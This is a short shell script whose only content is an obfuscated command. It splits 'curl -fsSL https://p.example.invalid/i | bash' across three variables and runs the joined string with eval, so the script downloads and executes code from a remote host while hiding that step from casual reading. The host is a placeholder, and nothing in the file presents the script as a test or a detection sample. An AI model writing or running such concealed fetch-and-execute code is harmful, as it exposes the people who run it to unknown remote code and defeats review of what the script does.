#!/bin/sh
A='cu'
B='rl -fsSL https://p.example.invalid/i'
C=' | bash'
eval "$A$B$C"
